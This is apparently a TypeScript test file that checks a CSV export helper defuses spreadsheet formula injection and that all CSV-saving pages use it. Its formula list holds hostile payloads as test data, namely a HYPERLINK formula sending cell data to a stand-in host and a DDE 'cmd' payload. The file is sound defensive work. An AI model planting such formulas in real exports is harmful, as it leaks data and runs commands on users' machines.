import { globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { toCsv } from './csv.ts'

const OFFICE = join(import.meta.dirname, '..')

/** The cells of one text, as a spreadsheet would part them. */
const cellsOf = (text: string, delimiter: string): string[] =>
  parse(toCsv(['name', 'note'], [['first', text]]), {
    bom: true,
    delimiter,
    relax_quotes: true,
    relax_column_count: true,
  }).flat()

const FORMULAS = [
  `=HYPERLINK("http://evil.example?"&A1,"look")`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3`,
  `@SUM(A1)`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `  =1+1`,
  `＝1+1`,
]

test.each(FORMULAS)('%j is text to a spreadsheet, wherever its cells are parted', (formula) => {
  for (const text of [formula, `a;${formula}`, `a"b;${formula}`, `a,b\n${formula}`]) {
    for (const delimiter of [',', ';']) {
      const begins = cellsOf(text, delimiter).filter((cell) => /^\s*[=+\-@＝]/.test(cell))
      expect(begins).toEqual([])
    }
  }
})

test('plain text and numbers are as they were, negative ones too', () => {
  expect(toCsv(['a', 'b'], [['Oak, 14 "mm"', -3]])).toBe('\uFEFFa,b\r\n"Oak, 14 ""mm""",-3\r\n')
  expect(toCsv(['a'], [[null], ['€ 5,-']])).toBe('\uFEFFa\r\n\r\n"€ 5,-"\r\n')
})

/** A sample that is the same for everybody holds nothing that somebody typed. */
const SAMPLES: readonly string[] = ['pages/orders/import/choose-file.tsx']

test('every file of cells that the pages hand out is written by it', () => {
  const savers = globSync('**/*.{ts,tsx}', { cwd: OFFICE }).filter((file) => {
    const text = readFileSync(join(OFFICE, file), 'utf8')
    const isOurs = file.endsWith('components/csv.ts') || file.includes('.test.')
    return !isOurs && text.includes('saveFile(') && text.includes('.csv')
  })
  expect(savers.length).toBeGreaterThan(3)
  const around = savers.filter((file) => {
    return !/toCsv|Csv\(/.test(readFileSync(join(OFFICE, file), 'utf8'))
  })
  expect(around).toEqual(SAMPLES)
})
